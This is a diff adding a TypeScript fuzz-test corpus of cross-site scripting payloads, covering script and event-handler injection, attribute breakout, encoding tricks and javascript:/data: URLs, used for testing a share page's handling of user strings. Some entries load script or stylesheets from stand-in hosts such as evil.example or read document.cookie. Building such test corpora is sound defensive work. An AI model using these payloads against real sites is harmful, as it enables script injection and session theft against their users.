@@ -1,0 +1,56 @@
+/**
+ * @module reliability/fuzz/xss-payloads
+ * A corpus of XSS payloads (tag injection, attribute breakout, protocol handlers, encodings,
+ * template and style tricks) for the share page's user strings.
+ */
+export const XSS_PAYLOADS: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<iframe src=javascript:alert(1)>",
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  '<a href="javascript:alert(1)">x</a>',
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '" onmouseover="alert(1)',
+  "' onmouseover='alert(1)",
+  '" autofocus onfocus="alert(1)" x="',
+  "</title><script>alert(1)</script>",
+  "</style><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "<!--<script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<form action="https://evil.example"><button>go</button></form>',
+  "<style>body{background:url(javascript:alert(1))}</style>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "javascript:alert(1)",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)}",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<img src=`x` onerror=`alert(1)`>",
+  "<\u0000script>alert(1)</script>",
+  "＜script＞alert(1)＜/script＞",
+  "<b>bold</b> 赛博朋克 <i>neon</i>",
+];
+
+/** URL-context payloads (only reachable through records not written by the create API). */
+export const XSS_URLS: readonly string[] = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(document.cookie)",
+  " javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "vbscript:msgbox(1)",
+  'https://example.com/a.png" onerror="alert(1)',
+  "https://example.com/<script>alert(1)</script>.png",
+];
